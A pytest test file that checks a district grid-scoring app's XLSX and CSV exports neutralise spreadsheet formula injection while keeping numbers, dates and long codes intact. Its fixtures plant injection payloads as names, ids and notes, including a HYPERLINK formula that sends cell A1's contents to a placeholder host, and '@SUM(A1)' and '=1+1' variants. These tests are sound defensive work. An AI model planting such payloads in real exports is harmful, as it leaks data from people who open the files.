"""The reviewer's exports stay data when Excel opens them: text from files and users that a
spreadsheet would run as a formula is made inert, numbers stay numbers (exact, shown to the
hundredth), dates are dates and codes stay text; fetched through the real app."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from fractions import Fraction
from zoneinfo import ZoneInfo

import pytest
from fixtures import finding, small_district
from openpyxl import load_workbook
from sqlalchemy import update

from gisgrid.services import office
from gisgrid.render import sheets
from gisgrid.storage.schema import Finding, Grid
from gisgrid.domain.rulebook import SHIPPED_DIR

OCT, NOV = "2026-10", "2026-11"
NATIONAL = "110108001001001"              # a 15-digit unit-grid code
HYPERLINK = '=HYPERLINK("http://x"&A1,"y")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SHIPPED = SHIPPED_DIR / "yancheng-2012.toml"


@pytest.fixture
def eighths(tmp_path, monkeypatch):
    """A district's own rulebook from 2026-01, the shipped one with rule 7 at 0.125 per shop
    front: grid means then have three decimals, which a rounded export would lose."""
    folder = tmp_path / "rulebooks"
    folder.mkdir()
    text = SHIPPED.read_text(encoding="utf-8")
    text = text.replace('id = "yancheng-2012"', 'id = "eighths-2026"').replace(
        'effective_from = "2012-01"', 'effective_from = "2026-01"')
    rule7 = text.index('[rules."7"]')
    text = text[:rule7] + text[rule7:].replace("points = 0.5", "points = 0.125", 1)
    (folder / "eighths-2026.toml").write_text(text, encoding="utf-8")
    monkeypatch.setenv("GISGRID_RULEBOOK_DIR", str(folder))
    return folder


@pytest.fixture
def hostile(eighths, app, client, auth, tmp_path):
    """The small district with formula-like names, codes, ids and notes, scored in October and
    November. G1 (the national code): November R11 91.25 (70 × 0.125) and R12 90 → 90.625;
    October 99.9375, so its change is −9.3125."""
    grids, roads = small_district()
    grids["code"] = [NATIONAL, "@SUM(A1)", "G3", "G4"]
    grids["name"] = [HYPERLINK, "-2+3", "城关镇第1网格", "城关镇第2网格"]
    grids["town"] = ["+1+1", "+1+1", "城关镇", "城关镇"]
    roads["grid"] = [NATIONAL, NATIONAL, NATIONAL, "@SUM(A1)", "G4", "G4"]
    roads["code"] = ["R11", "R12", "R13", "=1+1", "R41", "R42"]
    roads["name"] = [HYPERLINK, "黄河路", "文化巷", "@SUM(A1)", "淞江路", "交通路"]
    grids.to_file(tmp_path / "g.geojson", driver="GeoJSON")
    roads.to_file(tmp_path / "r.geojson", driver="GeoJSON")
    store = app.extensions["gisgrid.storage"]
    office.import_layer(store, "grids", tmp_path / "g.geojson")
    office.import_layer(store, "roads", tmp_path / "r.geojson")
    for month in (OCT, NOV):
        office.sample_month(store, month, seed=1, roads=["R11", "R12"])
    result = office.record_findings(store, [
        finding("o1", 114.035, 33.5951, "7", observed_at="2026-10-20T10:00:00+08:00"),
        finding("-2+3", 114.035, 33.5951, "7", count=70, note=HYPERLINK, deadline="2026-12-01"),
        finding("@SUM(A1)", 114.0351, 33.592, "5.1", count=2, note="to be replaced"),
        finding(NATIONAL, 114.045, 33.5951, "5.1", note="-2+3",
                observed_at="2026-11-01T07:00:00+08:00"),   # 31 October in UTC, November here
    ])
    assert not result.rejected, result.rejected
    # The import and the finding forms strip leading blanks, so tab- and CR-led text is written
    # into the database as an older version or a hand edit could have left it.
    with store.engine.begin() as conn:
        conn.execute(update(Grid.__table__).where(Grid.__table__.c.code == "G3").values(name="\t=1+1"))
        conn.execute(update(Grid.__table__).where(Grid.__table__.c.code == "G4").values(name="\r=1+1"))
        conn.execute(update(Finding.__table__).where(Finding.__table__.c.external_id == "@SUM(A1)")
                     .values(note="\t+1+1"))
    auth.login("office1", "reviewer")
    return store


def cells_of(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def by_header(sheet):
    """Rows of a sheet as {header: cell}."""
    rows = list(sheet.iter_rows())
    headers = [c.value for c in rows[0]]
    return [dict(zip(headers, row)) for row in rows[1:]]


def test_xlsx_cells_are_inert_typed_and_exact(hostile, client):
    response = client.get(f"/review/{NOV}/scores.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    texts = []
    for cell in cells_of(book):
        assert cell.data_type != "f"
        if isinstance(cell.value, str):
            texts.append(cell.value)
            assert not cell.value.startswith(FORMULA_STARTS), cell.value
            assert cell.data_type == "s" and cell.number_format == "@"
    # each hostile text is there, behind the apostrophe, whole
    # (XML reads a CR as a line feed, so the CR-led name comes back LF-led, still behind the ')
    for hostile_text in (HYPERLINK, "-2+3", "@SUM(A1)", "+1+1", "\t=1+1", "\n=1+1", "=1+1", "\t+1+1"):
        assert "'" + hostile_text in texts, hostile_text

    for sheet in book.worksheets:
        last = sheet.cell(1, sheet.max_column).column_letter
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
        assert sheet.freeze_panes == "A2"

    grids = {r["网格编码"].value: r for r in by_header(book["网格得分"])}
    g1 = grids[NATIONAL]
    assert g1["网格编码"].data_type == "s" and g1["网格编码"].number_format == "@"
    assert g1["网格名称"].value == "'" + HYPERLINK
    assert (g1["得分"].value, g1["得分"].number_format, g1["得分"].data_type) == (90.625, "0.00", "n")
    assert g1["上月得分"].value == 99.9375 and g1["上月得分"].number_format == "0.00"
    assert g1["得分变化"].value == -9.3125                       # negative numbers stay numbers
    assert g1["排名"].data_type == "n" and g1["排名"].value == 3
    assert grids["'@SUM(A1)"]["得分"].value == 95
    roads = {r["道路编码"].value: r for r in by_header(book["道路得分"])}
    assert (roads["R11"]["道路得分"].value, roads["R11"]["扣分合计"].value) == (91.25, 8.75)
    assert roads["'=1+1"]["道路名称"].value == "'@SUM(A1)"

    findings = {r["问题编号"].value: r for r in by_header(book["问题明细"])}
    first = findings["'-2+3"]
    assert first["发现时间"].is_date and first["发现时间"].value == datetime(2026, 11, 25, 10, 0)
    assert first["发现时间"].number_format == "yyyy-mm-dd hh:mm"
    assert first["整改期限"].is_date and first["整改期限"].value == datetime(2026, 12, 1)
    assert first["整改期限"].number_format == "yyyy-mm-dd"
    assert (first["扣分"].value, first["扣分"].number_format) == (8.75, "0.00")
    assert first["数量"].value == 70 and first["数量"].data_type == "n"
    assert first["条款"].value == "7" and first["条款"].data_type == "s"
    assert first["备注"].value == "'" + HYPERLINK
    # seven in the morning of 1 November, Beijing time: shown as the district's clock read it
    assert findings[NATIONAL]["发现时间"].value == datetime(2026, 11, 1, 7, 0)
    assert findings[NATIONAL]["问题编号"].data_type == "s"


def test_xlsx_road_and_finding_figures_are_exact_too(hostile, client):
    """October: R11 lost one 0.125 — rounded for people to 0.13 and 99.88, exact in the cells."""
    book = load_workbook(io.BytesIO(client.get(f"/review/{OCT}/scores.xlsx").data))
    road = next(r for r in by_header(book["道路得分"]) if r["道路编码"].value == "R11")
    assert (road["道路得分"].value, road["扣分合计"].value) == (99.875, 0.125)
    assert road["道路得分"].number_format == "0.00"
    (one,) = by_header(book["问题明细"])
    assert (one["问题编号"].value, one["扣分"].value) == ("o1", 0.125)
    assert next(r for r in by_header(book["网格得分"]) if r["网格编码"].value == NATIONAL)["得分"].value == 99.9375


def read_csv(client, level):
    response = client.get(f"/review/{NOV}/{level}.csv")
    assert response.status_code == 200 and response.data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    return [dict(zip(table[0], row)) for row in table[1:]], table


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("level", ["grids", "roads", "findings"])
def test_csv_cells_are_inert_and_numbers_plain(hostile, client, level):
    rows, table = read_csv(client, level)
    for row in table:
        for field in row:
            # a field may start with '-' only as a genuine number
            assert not field.startswith(FORMULA_STARTS) or is_number(field), field


def test_csv_neutralises_each_hostile_cell_and_keeps_codes_whole(hostile, client):
    grids, _ = read_csv(client, "grids")
    g1 = next(r for r in grids if r["网格名称"] == "'" + HYPERLINK)
    assert g1["网格编码"] == "'" + NATIONAL          # text in Excel: all 15 digits, no 1.10108E+14
    assert g1["镇办"] == "'+1+1"
    assert (g1["得分"], g1["上月得分"], g1["得分变化"], g1["排名"]) == ("90.625", "99.9375", "-9.3125", "3")
    names = {r["网格名称"] for r in grids}
    assert {"'-2+3", "'\t=1+1", "'\r=1+1"} <= names
    roads, _ = read_csv(client, "roads")
    assert {(r["道路编码"], r["道路名称"], r["道路得分"]) for r in roads} >= {
        ("R11", "'" + HYPERLINK, "91.25"), ("'=1+1", "'@SUM(A1)", "95.0")}
    findings, _ = read_csv(client, "findings")
    by_id = {r["问题编号"]: r for r in findings}
    assert set(by_id) == {"'-2+3", "'@SUM(A1)", "'" + NATIONAL}
    first = by_id["'-2+3"]
    assert (first["备注"], first["条款"], first["扣分"], first["数量"]) == ("'" + HYPERLINK, "'7", "8.75", "70")
    assert (first["发现时间"], first["整改期限"]) == ("2026-11-25 10:00", "2026-12-01")
    assert by_id["'@SUM(A1)"]["备注"] == "'\t+1+1" and by_id["'" + NATIONAL]["备注"] == "'-2+3"


# the rule alone --------------------------------------------------------------------------


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1",
                                  "＝1+1"])
def test_formula_like_text_gets_the_apostrophe(text):
    assert sheets.neutralise(text) == "'" + text
    assert sheets.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["沙北街道", "G1", "8.3.1", "a=b", "'quoted", ""])
def test_plain_text_is_left_alone(text):
    assert sheets.neutralise(text) == text


@pytest.mark.parametrize(("value", "kind", "expected"), [
    (-5, sheets.INTEGER, "-5"), (-2.5, sheets.SCORE, "-2.5"), (Fraction(725, 8), sheets.SCORE, "90.625"),
    (Decimal("-0.10"), sheets.NUMBER, "-0.10"), (float("nan"), sheets.NUMBER, ""), (None, sheets.TEXT, ""),
    (NATIONAL, sheets.CODE, "'" + NATIONAL), ("001", sheets.CODE, "'001"), ("G1", sheets.CODE, "G1"),
    (110108001001001, sheets.CODE, "'" + NATIONAL), ("001", sheets.TEXT, "001"),
    (datetime(2026, 10, 31, 23, 0, tzinfo=ZoneInfo("UTC")), sheets.DATETIME, "2026-11-01 07:00"),
    (date(2026, 12, 1), sheets.DATE, "2026-12-01"),
])
def test_csv_cells(value, kind, expected):
    assert sheets.csv_cell(value, kind, tz=ZoneInfo("Asia/Shanghai")) == expected


def test_xlsx_keeps_numbers_numbers_and_odd_text_text():
    table = sheets.Table("t", [sheets.Column("a"), sheets.Column("score", sheets.SCORE),
                               sheets.Column("code", sheets.CODE), sheets.Column("when", sheets.DATETIME)],
                         [["#N/A", Fraction(725, 8), NATIONAL, datetime(2026, 10, 31, 23, tzinfo=ZoneInfo("UTC"))],
                          ["bell\x07", -3, 110108001001001, None]])
    book = load_workbook(io.BytesIO(sheets.xlsx_bytes([table], tz=ZoneInfo("Asia/Shanghai"))))
    sheet = book["t"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("#N/A", "s")      # not an error cell
    assert (sheet["B2"].value, sheet["B2"].number_format) == (90.625, "0.00")
    assert (sheet["C2"].value, sheet["C2"].data_type, sheet["C3"].value) == (NATIONAL, "s", NATIONAL)
    assert sheet["D2"].value == datetime(2026, 11, 1, 7, 0)
    assert sheet["A3"].value == "bell\ufffd"    # a control character XLSX cannot hold, not a failed export
    assert (sheet["B3"].value, sheet["B3"].data_type) == (-3, "n")
    assert sheet.auto_filter.ref == "A1:D3"

